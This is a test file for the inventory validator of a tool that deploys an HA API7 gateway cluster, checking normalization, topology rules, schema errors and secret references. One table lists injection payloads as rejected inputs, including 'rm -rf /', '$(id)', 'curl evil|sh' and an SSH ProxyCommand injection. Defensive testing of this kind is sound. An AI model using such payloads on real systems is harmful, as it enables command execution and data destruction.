// Inventory validation: what an operator sees when an inventory is right (the normalized ClusterSpec)
// and when it is wrong (every problem at its field, with a fix), for native and Ansible inventories,
// through the library and through the CLI's exit code.
import assert from 'node:assert/strict';
import { execFileSync, spawn } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { after, describe, it } from 'node:test';
import { parse, stringify } from 'yaml';
import { InventoryError, loadInventory, parseInventory } from '../../src/inventory/load';
import type { ClusterSpec, HostSpec, SshTarget } from '../../src/inventory/model';
import { SCENARIOS } from '../../src/drills/scenarios';
import { SCENARIO_IDS } from '../../src/inventory/vocabulary';
import { writeLabArtifacts } from '../support/packages';
import { ANSIBLE_YAML, FIXTURES, LAB_YAML, ROOT, freshLab, fx, hostsOf, issueAt, issuesOf, parseLab, refusedAt, section, setPath, type Doc } from '../support/inventory';

const ssh = (host: string, address: string): SshTarget => ({
  host,
  address,
  port: 22,
  user: 'root',
  identityFile: fx('keys/deploy_key'),
  agent: false,
  sudo: false,
  knownHosts: fx('keys/known_hosts'),
  hostKeyPolicy: 'strict',
  connectTimeoutS: 10,
});
const host = (name: string, address: string, roles: HostSpec['roles'], etcdName?: string): HostSpec => ({
  name,
  address,
  roles,
  ssh: ssh(name, address),
  ...(etcdName ? { etcdName } : {}),
});

/** What the lab inventory must normalize to: defaults applied, paths absolute, secrets as references. */
const expectedLabSpec = (inventoryPath: string): ClusterSpec => ({
  cluster: { name: 'lab', clusterId: '21322091' },
  product: 'api7-ee-2.13',
  allowNoHa: false,
  inventoryPath,
  hosts: [
    host('ha1', '10.88.0.11', ['etcd', 'control_plane'], 'api7-etcd-1'),
    host('ha2', '10.88.0.12', ['etcd', 'control_plane'], 'api7-etcd-2'),
    host('ha3', '10.88.0.13', ['etcd'], 'api7-etcd-3'),
    host('ha4', '10.88.0.14', ['data_plane']),
    host('ha5', '10.88.0.15', ['data_plane']),
    host('lb', '10.88.0.16', ['load_balancer']),
  ],
  packages: {
    controlPlane: fx('packages/api7-2.13.2304-cp.tar.gz'),
    dataPlane: fx('packages/api7-2.13.2304-dp.tar.gz'),
    etcdImage: { name: 'bitnami/etcd:3.4.13', tarball: fx('packages/etcd-3.4.13.tar.gz') },
    haproxyImage: { name: 'api7-ha/haproxy:2.6', tarball: fx('packages/haproxy-2.6.tar.gz') },
  },
  etcd: {
    dataDir: '/usr/local/etcd/etcd_data',
    containerName: 'etcd',
    clusterToken: 'etcd-cluster',
    clientPort: 2379,
    peerPort: 2380,
    enableV2: true,
    autoCompactionMode: 'periodic',
    autoCompactionRetention: '1h',
    quotaBackendBytes: 2147483648,
    auth: { enabled: false, user: 'root' },
    tls: { enabled: false, expiryWarningDays: 30 },
  },
  controlPlane: { installDir: '/opt/api7', adminUser: 'admin', tokenExpireS: 3600 },
  dataPlane: { installDir: '/opt/api7', batchSize: 5, failureBudget: 0 },
  loadBalancer: { mode: 'managed', controlPlanePort: 9000, dataPlanePort: 80, statsPort: 8404, runtimeApiPort: 9999, installDir: '/opt/api7-ha/haproxy', checkIntervalMs: 250, fall: 2, rise: 2 },
  verification: { host: 'test.com', path: '/get', expectStatus: 200, upstream: '10.88.0.17:80', routeId: 'api7-ha-probe', deadlineS: 60 },
  failover: { enabled: true, recoveryDeadlineS: 120 },
  drills: {
    probeRatePerS: 20,
    holdS: 6,
    allowDestructive: false,
    thresholds: { dpMaxOutageMs: 2000, cpMaxOutageMs: 5000, etcdCpWriteRecoveryMs: 5000, etcdDpMaxFailures: 0, recoveryDeadlineS: 120, propagationP99Ms: 3000, propagationStaleMs: 5000 },
    stopConditions: [],
  },
  notifications: { webhooks: [] },
  backup: { dir: path.join(path.dirname(inventoryPath), 'backups', 'lab'), retention: 14, verify: true },
  secrets: { dashboard_secret: { file: fx('secrets/dashboard-secret') }, admin_password: { file: fx('secrets/admin-password') } },
});

void describe('a valid native inventory (the lab estate)', () => {
  void it('normalizes to the expected ClusterSpec: etcd names api7-etcd-1..3, absolute paths, defaults', () => {
    const { spec, warnings } = loadInventory(LAB_YAML);
    assert.deepEqual(spec, expectedLabSpec(LAB_YAML));
    assert.deepEqual(warnings, []);
  });

  void it('loads the same spec from a relative path, whatever the current directory is', () => {
    const rel = path.relative(process.cwd(), LAB_YAML);
    assert.deepEqual(loadInventory(rel).spec, expectedLabSpec(LAB_YAML));
  });

  void it('keeps secrets as references only: no secret value is in the spec', () => {
    const { spec } = loadInventory(LAB_YAML);
    const text = JSON.stringify(spec);
    for (const f of ['secrets/dashboard-secret', 'secrets/admin-password']) {
      const value = readFileSync(fx(f), 'utf8').trim();
      assert.ok(!text.includes(value), `the value of ${f} leaked into the spec`);
    }
  });

  void it('accepts a numeric cluster_id and turns it into a string', () => {
    assert.equal(parseLab((d) => setPath(d, 'cluster.cluster_id', 21322091)).spec.cluster.clusterId, '21322091');
  });

  void it('accepts DNS names, digest-pinned images with a registry port and plain absolute data dirs', () => {
    const { spec } = parseLab((d) => {
      setPath(d, 'hosts[0].address', 'ha1.example.com');
      setPath(d, 'packages.etcd_image.name', `registry.local:5000/bitnami/etcd@sha256:${'a'.repeat(64)}`);
      setPath(d, 'etcd.data_dir', '/data/etcd-1_x.y');
    });
    assert.equal(spec.hosts[0]?.address, 'ha1.example.com');
    assert.equal(spec.packages.etcdImage.name, `registry.local:5000/bitnami/etcd@sha256:${'a'.repeat(64)}`);
    assert.equal(spec.etcd.dataDir, '/data/etcd-1_x.y');
  });

  void it('uses explicit etcd_name values and numbers the other members in inventory order', () => {
    const { spec } = parseLab((d) => setPath(d, 'hosts[1].etcd_name', 'etcd-b'));
    assert.deepEqual(
      spec.hosts.map((h) => h.etcdName),
      ['api7-etcd-1', 'etcd-b', 'api7-etcd-2', undefined, undefined, undefined],
    );
  });

  void it('merges per-host ssh settings over the shared ones (port, user + sudo, sudo password ref, jump host)', () => {
    const { spec } = parseLab((d) => {
      setPath(d, 'ssh.jump_host', { address: 'bastion.example.com' });
      setPath(d, 'hosts[3].ssh', { port: 2222, user: 'deploy', sudo: true, sudo_password: { env: 'DEPLOY_SUDO_PASSWORD' } });
    });
    assert.deepEqual(spec.hosts[3]?.ssh, {
      ...ssh('ha4', '10.88.0.14'),
      port: 2222,
      user: 'deploy',
      sudo: true,
      sudoPassword: { env: 'DEPLOY_SUDO_PASSWORD' },
      jump: { address: 'bastion.example.com', port: 22, user: 'deploy' },
    });
    assert.deepEqual(spec.hosts[0]?.ssh.jump, { address: 'bastion.example.com', port: 22, user: 'root' });
    assert.equal(spec.hosts[0]?.ssh.sudo, false);
  });

  /** A real certificate (made with openssl, at test time) with or without a CommonName. */
  function certificate(cn: string | undefined): string {
    const dir = mkdtempSync(path.join(tmpdir(), 'api7ha-cert-'));
    execFileSync('openssl', ['req', '-x509', '-newkey', 'rsa:2048', '-nodes', '-days', '1', '-subj', cn ? `/CN=${cn}` : '/O=api7-ha', '-keyout', path.join(dir, 'k.pem'), '-out', path.join(dir, 'c.pem')], { stdio: 'pipe' });
    return path.join(dir, 'c.pem');
  }

  void it('refuses, with etcd auth on, a client certificate with a CommonName (etcd\'s gateway would 503 every request)', () => {
    const withCn = certificate('api7');
    const issues = issuesOf(() =>
      parseLab((d) => {
        setPath(d, 'etcd.auth', { enabled: true, password: { file: 'secrets/etcd-password' } });
        setPath(d, 'etcd.tls', { enabled: true, ca_file: 'tls/ca.pem', server_cert_file: 'tls/server.pem', server_key_file: 'tls/server-key.pem', client_cert_file: withCn, client_key_file: 'tls/client-key.pem' });
      }),
    );
    const issue = issueAt(issues, 'etcd.tls.client_cert_file');
    assert.match(issue.message, /has a CommonName \(CN=api7\)/);
    assert.match(issue.fix, /without a CN/);
  });

  void it('etcd upkeep: compaction retention must fit the mode; the quota is bounded; the backup folder defaults beside the inventory', () => {
    const wrong = issueAt(issuesOf(() => parseLab((d) => setPath(d, 'etcd', { auto_compaction_mode: 'revision', auto_compaction_retention: '1h' }))), 'etcd.auto_compaction_retention');
    assert.match(wrong.message, /"1h" is a duration, but auto_compaction_mode is revision/);
    const small = issueAt(issuesOf(() => parseLab((d) => setPath(d, 'etcd', { quota_backend_bytes: 1000 }))), 'etcd.quota_backend_bytes');
    assert.match(small.message, /at least 1 MiB/);
    const { spec } = parseLab((d) => {
      setPath(d, 'etcd', { auto_compaction_mode: 'revision', auto_compaction_retention: '10000', quota_backend_bytes: 16777216 });
      setPath(d, 'backup', { dir: 'snapshots', retention: 3 });
      setPath(d, 'drills', { allow_destructive: true });
    });
    assert.equal(spec.etcd.autoCompactionMode, 'revision');
    assert.equal(spec.etcd.autoCompactionRetention, '10000');
    assert.equal(spec.etcd.quotaBackendBytes, 16777216);
    assert.deepEqual(spec.backup, { dir: fx('snapshots'), retention: 3, verify: true });
    assert.equal(spec.drills.allowDestructive, true);
  });

  void it('with etcd auth and TLS, resolves the password reference and the PEM files against the inventory folder', () => {
    const clientCert = certificate(undefined);
    const { spec } = parseLab((d) => {
      setPath(d, 'etcd.auth', { enabled: true, password: { file: 'secrets/etcd-password' } });
      setPath(d, 'etcd.tls', {
        enabled: true,
        ca_file: 'tls/ca.pem',
        server_cert_file: 'tls/server.pem',
        server_key_file: 'tls/server-key.pem',
        client_cert_file: clientCert,
        client_key_file: 'tls/client-key.pem',
      });
    });
    assert.deepEqual(spec.etcd.auth, { enabled: true, user: 'root' });
    assert.deepEqual(spec.secrets.etcd_password, { file: fx('secrets/etcd-password') });
    assert.deepEqual(spec.etcd.tls, {
      enabled: true,
      expiryWarningDays: 30,
      caFile: fx('tls/ca.pem'),
      serverCertFile: fx('tls/server.pem'),
      serverKeyFile: fx('tls/server-key.pem'),
      clientCertFile: clientCert,
      clientKeyFile: fx('tls/client-key.pem'),
    });
  });

  void it('accepts external load balancers with their URLs and no load_balancer host or HAProxy image', () => {
    const { spec } = parseLab((d) => {
      hostsOf(d).splice(5, 1);
      delete section(d, 'packages')['haproxy_image'];
      d['load_balancer'] = { mode: 'external', external: { control_plane_url: 'http://10.0.0.50:9000', data_plane_url: 'http://10.0.0.50' } };
    });
    assert.equal(spec.loadBalancer.mode, 'external');
    assert.deepEqual(spec.loadBalancer.external, { controlPlaneUrl: 'http://10.0.0.50:9000', dataPlaneUrl: 'http://10.0.0.50' });
    assert.equal(spec.packages.haproxyImage, undefined);
  });
});

void describe('inventory topology checks', () => {
  void it('refuses an even number of etcd members, naming the count and the odd alternatives', () => {
    refusedAt((d) => setPath(d, 'hosts[3].roles', ['data_plane', 'etcd']), 'hosts', /^4 etcd members: an even count/, /odd number of etcd members \(3 or 5\)/);
  });

  void it('refuses a single etcd member without allow_no_ha', () => {
    refusedAt(
      (d) => {
        setPath(d, 'hosts[1].roles', ['control_plane']);
        hostsOf(d).splice(2, 1);
      },
      'hosts',
      /single etcd member is not highly available/,
      /allow_no_ha: true/,
    );
  });

  void it('accepts a single etcd member with allow_no_ha: true', () => {
    const { spec } = parseLab((d) => {
      d['allow_no_ha'] = true;
      setPath(d, 'hosts[1].roles', ['control_plane']);
      hostsOf(d).splice(2, 1);
    });
    assert.equal(spec.allowNoHa, true);
    assert.deepEqual(
      spec.hosts.filter((h) => h.roles.includes('etcd')).map((h) => [h.name, h.etcdName]),
      [['ha1', 'api7-etcd-1']],
    );
  });

  void it('refuses an inventory without etcd hosts', () => {
    refusedAt(
      (d) => {
        setPath(d, 'hosts[0].roles', ['control_plane']);
        setPath(d, 'hosts[1].roles', ['control_plane']);
        hostsOf(d).splice(2, 1);
      },
      'hosts',
      /no host has the etcd role/,
      /three hosts the etcd role/,
    );
  });

  void it('refuses an inventory without a data plane', () => {
    refusedAt((d) => hostsOf(d).splice(3, 2), 'hosts', /no host has the data_plane role/, /two or more hosts the data_plane role/);
  });

  void it('refuses an inventory without a control plane', () => {
    refusedAt(
      (d) => {
        setPath(d, 'hosts[0].roles', ['etcd']);
        setPath(d, 'hosts[1].roles', ['etcd']);
      },
      'hosts',
      /no host has the control_plane role/,
      /control_plane role/,
    );
  });

  void it('only warns about a single gateway (the runbook recommends two)', () => {
    const { warnings } = parseLab((d) => hostsOf(d).splice(4, 1));
    assert.deepEqual(warnings, ['only 1 data plane host: losing it stops all traffic; the runbook recommends two or more']);
  });

  void it('only warns about a single dashboard (the runbook allows it)', () => {
    const { warnings } = parseLab((d) => setPath(d, 'hosts[1].roles', ['etcd']));
    assert.deepEqual(warnings, ['one control plane host: the dashboard is not highly available (the runbook allows this)']);
  });

  void it('refuses duplicate host names, pointing at the second one', () => {
    refusedAt((d) => setPath(d, 'hosts[4].name', 'ha4'), 'hosts[4].name', /^"ha4" is also the name of hosts\[3\]$/, /unique name/);
  });

  void it('refuses duplicate addresses, naming the other host', () => {
    refusedAt((d) => setPath(d, 'hosts[4].address', '10.88.0.14'), 'hosts[4].address', /^10\.88\.0\.14 is also the address of hosts\[3\] \(ha4\)$/, /list each machine once/);
  });

  void it('refuses a role listed twice on one host', () => {
    refusedAt((d) => setPath(d, 'hosts[0].roles', ['etcd', 'etcd', 'control_plane']), 'hosts[0].roles', /lists etcd twice/, /each role once/);
  });

  void it('refuses a load balancer on a data plane host when both want port 80', () => {
    refusedAt(
      (d) => {
        setPath(d, 'hosts[3].roles', ['data_plane', 'load_balancer']);
        hostsOf(d).splice(5, 1);
      },
      'hosts[3].roles',
      /^ha4: port 80 is used by both data_plane and load_balancer$/,
      /move the load balancer to another host or change load_balancer\.\*_port/,
    );
  });

  void it('refuses an etcd host whose load balancer stats port is 2379', () => {
    refusedAt(
      (d) => {
        setPath(d, 'hosts[2].roles', ['etcd', 'load_balancer']);
        hostsOf(d).splice(5, 1);
        setPath(d, 'load_balancer.stats_port', 2379);
      },
      'hosts[2].roles',
      /^ha3: port 2379 is used by both etcd and load_balancer$/,
      /move the load balancer/,
    );
  });

  void it('refuses an etcd client port that clashes with the dashboard on a shared host', () => {
    const issues = issuesOf(() => parseLab((d) => setPath(d, 'etcd.client_port', 9000)));
    assert.deepEqual(
      issues.map((i) => [i.path, i.message, i.fix]),
      [
        ['hosts[0].roles', 'ha1: port 9000 is used by both etcd and control_plane', 'put these roles on different hosts'],
        ['hosts[1].roles', 'ha2: port 9000 is used by both etcd and control_plane', 'put these roles on different hosts'],
      ],
    );
  });

  void it('refuses equal load balancer ports', () => {
    refusedAt((d) => setPath(d, 'load_balancer.stats_port', 80), 'load_balancer', /must differ \(got 9000, 80, 80\)/, /three different ports/);
  });

  void it('refuses a failure budget that lets every gateway fail', () => {
    refusedAt((d) => setPath(d, 'data_plane.failure_budget', 2), 'data_plane.failure_budget', /^a budget of 2 lets every one of the 2 gateways fail$/, /^set it below 2$/);
  });

  void it('accepts a failure budget below the gateway count', () => {
    assert.equal(parseLab((d) => setPath(d, 'data_plane.failure_budget', 1)).spec.dataPlane.failureBudget, 1);
  });
});

void describe('inventory fields that reach a shell are validated against strict patterns', () => {
  // [field set in the inventory, hostile value, the issue path reported, the message]
  const cases: [string, unknown, string, RegExp][] = [
    ['cluster.name', 'lab;reboot', 'cluster.name', /must be lowercase letters, digits and dashes/],
    ['cluster.name', 'lab`id`', 'cluster.name', /must be lowercase letters/],
    ['cluster.cluster_id', '2132$(id)', 'cluster.cluster_id', /must be letters, digits, "_" and "-"/],
    ['hosts[0].name', 'ha1;rm -rf /', 'hosts[0].name', /must be lowercase letters, digits and dashes, starting with a letter/],
    ['hosts[0].address', '$(id)', 'hosts[0].address', /must be an IPv4 address or a DNS name/],
    ['hosts[1].address', '10.88.0.12 -oProxyCommand=sh', 'hosts[1].address', /must be an IPv4 address or a DNS name/],
    ['hosts[0].etcd_name', 'api7-etcd-1 --force-new-cluster', 'hosts[0].etcd_name', /must be letters, digits, "_" and "-"/],
    ['ssh.user', 'root;id', 'ssh.user', /must be a POSIX user name/],
    ['hosts[2].ssh', { user: '$(whoami)' }, 'hosts[2].ssh.user', /must be a POSIX user name/],
    ['ssh.jump_host', { address: 'bastion;id' }, 'ssh.jump_host.address', /must be an IPv4 address or a DNS name/],
    ['etcd.data_dir', '/usr/local/etcd/../../etc', 'etcd.data_dir', /must not contain "\." or "\.\." segments/],
    ['etcd.data_dir', '/usr/local/etcd/./etcd_data', 'etcd.data_dir', /must not contain "\." or "\.\." segments/],
    ['etcd.data_dir', '/usr/local/etcd/etcd_data;rm -rf /', 'etcd.data_dir', /must be an absolute path of letters, digits/],
    ['etcd.data_dir', 'usr/local/etcd', 'etcd.data_dir', /must be an absolute path/],
    ['etcd.data_dir', '/', 'etcd.data_dir', /must not be "\/"/],
    ['etcd.container_name', 'etcd --privileged', 'etcd.container_name', /must be a Docker container name/],
    ['etcd.container_name', '-etcd', 'etcd.container_name', /must be a Docker container name/],
    ['etcd.cluster_token', 'tok$(id)', 'etcd.cluster_token', /must be letters, digits, "_" and "-"/],
    ['etcd.auth', { enabled: true, user: 'root:pw', password: { env: 'ETCD_PW' } }, 'etcd.auth.user', /must be a POSIX user name/],
    ['control_plane.install_dir', '/opt/api7 /etc', 'control_plane.install_dir', /must be an absolute path/],
    ['data_plane.install_dir', '/opt/$(id)', 'data_plane.install_dir', /must be an absolute path/],
    ['load_balancer.install_dir', '/opt/`id`', 'load_balancer.install_dir', /must be an absolute path/],
    ['control_plane.admin.username', "admin' OR '1", 'control_plane.admin.username', /must be a POSIX user name/],
    ['packages.etcd_image.name', 'bitnami/etcd:3.4.13;curl evil|sh', 'packages.etcd_image.name', /must be a Docker image reference/],
    ['packages.etcd_image.name', '--privileged', 'packages.etcd_image.name', /must be a Docker image reference/],
    ['packages.haproxy_image.name', 'haproxy $(id)', 'packages.haproxy_image.name', /must be a Docker image reference/],
    ['verification.host', "test.com' -H 'X-Evil: 1", 'verification.host', /must be a host name/],
    ['verification.path', '/get;id', 'verification.path', /must be an absolute URL path/],
    ['verification.path', '/get?x=$(id)', 'verification.path', /must be an absolute URL path/],
    ['verification.upstream', '10.88.0.17:80 && id', 'verification.upstream', /must be host:port/],
    ['verification.route_id', '../routes', 'verification.route_id', /must be letters, digits/],
    [
      'load_balancer.external',
      { control_plane_url: 'http://lb/$(id)', data_plane_url: 'http://lb' },
      'load_balancer.external.control_plane_url',
      /must be an http\(s\) URL/,
    ],
    ['control_plane.auth_secret', { env: 'X;id' }, 'control_plane.auth_secret.env', /must be an environment variable name/],
  ];
  for (const [field, value, at, message] of cases) {
    void it(`refuses ${field}: ${JSON.stringify(value)} at ${at}, with a fix`, () => {
      const issue = refusedAt((d) => setPath(d, field, value), at, message, new RegExp(`^(set|change) ${at.replace(/[.[\]]/g, '\\$&')}`));
      // The message describes the valid shape; it does not echo a shell payload into logs.
      const hostile = typeof value === 'string' ? value : JSON.stringify(value);
      if (/[;$`|&' ]/.test(hostile)) assert.ok(!issue.message.includes(hostile));
    });
  }
});

void describe('inventory schema errors', () => {
  void it('refuses an IPv4 address with an octet above 255 (a typo, not a DNS name)', () => {
    refusedAt((d) => setPath(d, 'hosts[2].address', '10.88.0.256'), 'hosts[2].address', /must be an IPv4 address or a DNS name/, /^set hosts\[2\]\.address/);
  });

  void it('names an unknown field (typo hosts[0].rolez) and says to fix its spelling', () => {
    const issue = refusedAt((d) => setPath(d, 'hosts[0].rolez', ['etcd']), 'hosts[0]', /^unknown field "rolez"$/, /remove it or correct its spelling/);
    assert.ok(issue);
  });

  void it('names an unknown top-level section', () => {
    refusedAt((d) => (d['clustr'] = { name: 'x' }), '', /^unknown field "clustr"$/, /correct its spelling/);
  });

  void it('names an unknown role and lists the valid ones', () => {
    refusedAt((d) => setPath(d, 'hosts[0].roles', ['etcd', 'dashboard']), 'hosts[0].roles[1]', /must be one of etcd, control_plane, data_plane, load_balancer/, /^set hosts\[0\]\.roles\[1\] to one of/);
  });

  void it('says a required section is missing', () => {
    refusedAt((d) => delete d['cluster'], 'cluster', /^is required$/, /^add cluster$/);
    refusedAt((d) => delete section(d, 'packages')['control_plane'], 'packages.control_plane', /^is required$/, /^add packages\.control_plane$/);
  });

  void it('refuses a port out of range', () => {
    refusedAt((d) => setPath(d, 'etcd.client_port', 70000), 'etcd.client_port', /^must be 1-65535$/, /^set etcd\.client_port to 1-65535$/);
  });

  void it('refuses a product it does not know', () => {
    refusedAt((d) => (d['product'] = 'api7-ee-3.0'), 'product', /must be "api7-ee-2.13" \(default\) or "apisix-3"/, /^set product to/);
  });

  void it('reports a value of the wrong type as the wrong type, not as missing (roles: "etcd")', () => {
    refusedAt((d) => setPath(d, 'hosts[0].roles', 'etcd'), 'hosts[0].roles', /expected array, received string/, /^set hosts\[0\]\.roles to an? array/);
  });

  void it('reports a port written as a string as the wrong type (ssh.port: "22")', () => {
    refusedAt((d) => setPath(d, 'ssh.port', '22'), 'ssh.port', /^(must be a port number|expected number, received string)$/, /^set ssh\.port to a number/);
  });

  void it('reports a YAML syntax error at its line', () => {
    const issues = issuesOf(() => parseInventory('cluster:\n  name: lab\n\tcluster_id: "21322091"\nhosts: []\n', fx('syntax.yaml')));
    assert.deepEqual(
      issues.map((i) => [i.path, i.fix]),
      [['line 3', 'correct the YAML syntax at that line']],
    );
    assert.match(issues[0]!.message, /^YAML syntax: Tabs are not allowed as indentation/);
  });

  void it('reports a duplicated key at its line', () => {
    const issues = issuesOf(() => parseInventory('cluster:\n  name: lab\n  name: lab2\n', fx('dup.yaml')));
    assert.equal(issues[0]?.path, 'line 3');
    assert.match(issues[0]!.message, /Map keys must be unique/);
  });

  void it('refuses a file that is not a mapping, or is empty', () => {
    for (const text of ['- a\n- b\n', '', 'just a string\n']) {
      const issues = issuesOf(() => parseInventory(text, fx('notmap.yaml')));
      assert.deepEqual(issues, [{ path: '', message: 'the file is not a YAML mapping', fix: 'start from the example in README.md (cluster:, hosts:, packages:)' }]);
    }
  });

  void it('refuses an inventory path that does not exist, with the -i fix', () => {
    const missing = path.join(FIXTURES, 'no-such-inventory.yaml');
    const issues = issuesOf(() => loadInventory(missing));
    assert.equal(issues.length, 1);
    assert.equal(issues[0]?.message, `inventory file ${missing} does not exist`);
    assert.match(issues[0]!.fix, /-i/);
  });

  void it('lists every problem at once in the error message, each with its fix', () => {
    let err: unknown;
    try {
      parseLab((d) => {
        delete section(d, 'control_plane')['auth_secret'];
        delete section(d, 'verification')['upstream'];
        setPath(d, 'data_plane.failure_budget', 5);
      });
    } catch (e) {
      err = e;
    }
    assert.ok(err instanceof InventoryError);
    assert.deepEqual(err.issues.map((i) => i.path), ['control_plane.auth_secret', 'verification.upstream', 'data_plane.failure_budget']);
    assert.equal(err.source, fx('case.yaml'));
    assert.ok(err.message.startsWith(`${fx('case.yaml')}: invalid inventory (3 problems):\n`));
    assert.equal((err.message.match(/\n {4}fix: /g) ?? []).length, 3);
  });
});

void describe('inventory secrets, credentials and local files', () => {
  for (const [field, at] of [
    ['control_plane.auth_secret', 'control_plane.auth_secret'],
    ['control_plane.admin.password', 'control_plane.admin.password'],
    ['etcd.auth', 'etcd.auth.password'],
    ['ssh.sudo_password', 'ssh.sudo_password'],
  ] as const) {
    void it(`refuses an inline secret value at ${at} (a reference is required) without echoing it`, () => {
      const secret = 'inline-s3cret-VALUE';
      const value = field === 'etcd.auth' ? { enabled: true, password: secret } : secret;
      let err: unknown;
      try {
        parseLab((d) => setPath(d, field, value));
      } catch (e) {
        err = e;
      }
      assert.ok(err instanceof InventoryError);
      const issue = issueAt(err.issues, at);
      assert.match(issue.message, /must be a secret reference: \{ env: VARIABLE_NAME \} or \{ file: \/path\/to\/file \} \(never the secret itself\)/);
      assert.ok(!err.message.includes(secret), 'the inline secret was echoed in the error');
    });
  }

  void it('refuses two dashboards without a shared auth_secret, explaining the 401', () => {
    refusedAt(
      (d) => delete section(d, 'control_plane')['auth_secret'],
      'control_plane.auth_secret',
      /^2 dashboards without a shared authentication\.secret: a token signed by one is refused \(401\)/,
      /control_plane\.auth_secret: \{ env: API7_DASHBOARD_SECRET \}/,
    );
  });

  void it('refuses an inventory without dashboard admin credentials', () => {
    refusedAt((d) => delete section(d, 'control_plane')['admin'], 'control_plane.admin', /no dashboard admin credentials/, /control_plane\.admin: \{ username: admin, password:/);
  });

  void it('refuses etcd auth without a password reference', () => {
    refusedAt((d) => setPath(d, 'etcd.auth', { enabled: true }), 'etcd.auth.password', /etcd auth is enabled without a password reference/, /etcd\.auth\.password: \{ env: ETCD_ROOT_PASSWORD \}/);
  });

  void it('refuses etcd TLS without its files, naming each missing one', () => {
    const issues = issuesOf(() => parseLab((d) => setPath(d, 'etcd.tls', { enabled: true })));
    assert.deepEqual(
      issues.map((i) => [i.path, i.message, i.fix]),
      ['ca_file', 'server_cert_file', 'server_key_file', 'client_cert_file', 'client_key_file'].map((f) => [
        `etcd.tls.${f}`,
        'required when etcd.tls.enabled is true',
        `set etcd.tls.${f} to a PEM file`,
      ]),
    );
  });

  void it('refuses etcd TLS whose CA file does not exist', () => {
    refusedAt(
      (d) =>
        setPath(d, 'etcd.tls', {
          enabled: true,
          ca_file: 'tls/nope.pem',
          server_cert_file: 'tls/server.pem',
          server_key_file: 'tls/server-key.pem',
          client_cert_file: 'tls/client.pem',
          client_key_file: 'tls/client-key.pem',
        }),
      'etcd.tls.ca_file',
      new RegExp(`^file ${fx('tls/nope.pem')} does not exist$`),
      /CA certificate/,
    );
  });

  void it('refuses external load balancers without their URLs', () => {
    refusedAt((d) => setPath(d, 'load_balancer.mode', 'external'), 'load_balancer.external', /external mode needs the URLs/, /load_balancer\.external: \{ control_plane_url:/);
  });

  void it('refuses managed load balancers without an HAProxy image', () => {
    refusedAt((d) => delete section(d, 'packages')['haproxy_image'], 'packages.haproxy_image', /managed load balancers need an HAProxy image/, /packages\.haproxy_image: \{ tarball:/);
  });

  void it('refuses managed load balancers without a load_balancer host', () => {
    refusedAt((d) => hostsOf(d).splice(5, 1), 'load_balancer.mode', /need a host with the load_balancer role/, /load_balancer\.mode: external/);
  });

  void it('refuses a non-root user without sudo, on every host, and accepts it with sudo: true', () => {
    const issues = issuesOf(() => parseLab((d) => setPath(d, 'ssh.user', 'deploy')));
    assert.deepEqual(issues.map((i) => i.path), [0, 1, 2, 3, 4, 5].map((i) => `hosts[${i}].ssh.sudo`));
    assert.equal(issues[0]?.message, "ha1: user deploy is not root, and docker and the runbook's directories need root");
    assert.match(issues[0]!.fix, /^set ssh\.sudo: true/);
    const { spec } = parseLab((d) => {
      setPath(d, 'ssh.user', 'deploy');
      setPath(d, 'ssh.sudo', true);
    });
    assert.deepEqual(spec.hosts.map((h) => [h.ssh.user, h.ssh.sudo]), spec.hosts.map(() => ['deploy', true]));
  });

  void it('never wraps root in sudo, even with sudo: true', () => {
    assert.equal(parseLab((d) => setPath(d, 'ssh.sudo', true)).spec.hosts[0]?.ssh.sudo, false);
  });

  void it('refuses an inventory without a known_hosts setting (host keys must be verified)', () => {
    const issues = issuesOf(() => parseLab((d) => delete section(d, 'ssh')['known_hosts']));
    const first = issueAt(issues, 'hosts[0].ssh.known_hosts');
    assert.equal(first.message, 'ha1: no known_hosts file: host keys must be verified');
    assert.match(first.fix, /accept-new/);
  });

  void it('refuses an inventory without SSH credentials', () => {
    const issues = issuesOf(() => parseLab((d) => delete section(d, 'ssh')['identity_file']));
    assert.equal(issueAt(issues, 'hosts[0].ssh.identity_file').message, 'ha1: no SSH credentials');
    assert.doesNotThrow(() =>
      parseLab((d) => {
        delete section(d, 'ssh')['identity_file'];
        setPath(d, 'ssh.agent', true);
      }),
    );
  });

  void it('refuses a missing package file, naming the absolute path', () => {
    refusedAt(
      (d) => setPath(d, 'packages.control_plane', 'packages/nope-cp.tar.gz'),
      'packages.control_plane',
      new RegExp(`^file ${fx('packages/nope-cp.tar.gz')} does not exist$`),
      /control plane package \(e\.g\. api7-2\.13\.2304-cp\.tar\.gz\)/,
    );
  });

  void it('refuses a missing image tarball', () => {
    refusedAt((d) => setPath(d, 'packages.etcd_image.tarball', 'packages/nope.tar.gz'), 'packages.etcd_image.tarball', /does not exist/, /docker save/);
  });

  void it('does not check local files when asked not to (checkFiles: false)', () => {
    assert.doesNotThrow(() => parseLab((d) => setPath(d, 'packages.control_plane', 'packages/nope-cp.tar.gz'), { checkFiles: false }));
  });

  void it('refuses a missing identity file once, at the shared ssh.identity_file that names it (not at hosts[0])', () => {
    const issues = issuesOf(() => parseLab((d) => setPath(d, 'ssh.identity_file', 'keys/missing_key')));
    assert.deepEqual(issues, [{ path: 'ssh.identity_file', message: `file ${fx('keys/missing_key')} does not exist`, fix: 'point it at the private key for this host' }]);
  });

  void it('refuses a missing known_hosts file under the strict policy, and accepts it with accept-new', () => {
    refusedAt((d) => setPath(d, 'ssh.known_hosts', 'keys/missing_known_hosts'), 'ssh.known_hosts', /does not exist/, /ssh-keyscan.*accept-new/);
    const { spec } = parseLab((d) => {
      setPath(d, 'ssh.known_hosts', 'keys/missing_known_hosts');
      setPath(d, 'ssh.host_key_policy', 'accept-new');
    });
    assert.deepEqual(spec.hosts.map((h) => h.ssh.hostKeyPolicy), spec.hosts.map(() => 'accept-new'));
    assert.equal(spec.hosts[0]?.ssh.knownHosts, fx('keys/missing_known_hosts'));
  });

  void it('refuses a known_hosts file in a folder that does not exist, even with accept-new', () => {
    const issues = issuesOf(() =>
      parseLab((d) => {
        setPath(d, 'ssh.known_hosts', 'no-such-folder/known_hosts');
        setPath(d, 'ssh.host_key_policy', 'accept-new');
      }),
    );
    assert.equal(issueAt(issues, 'ssh.known_hosts').message, `folder ${fx('no-such-folder')} does not exist`);
  });

  void it('refuses a missing secret file', () => {
    const issues = issuesOf(() => parseLab((d) => setPath(d, 'control_plane.auth_secret', { file: 'secrets/nope' })));
    assert.equal(issues.length, 1);
    assert.equal(issues[0]?.message, `file ${fx('secrets/nope')} does not exist`);
    assert.match(issues[0]!.fix, /dashboard secret/);
  });

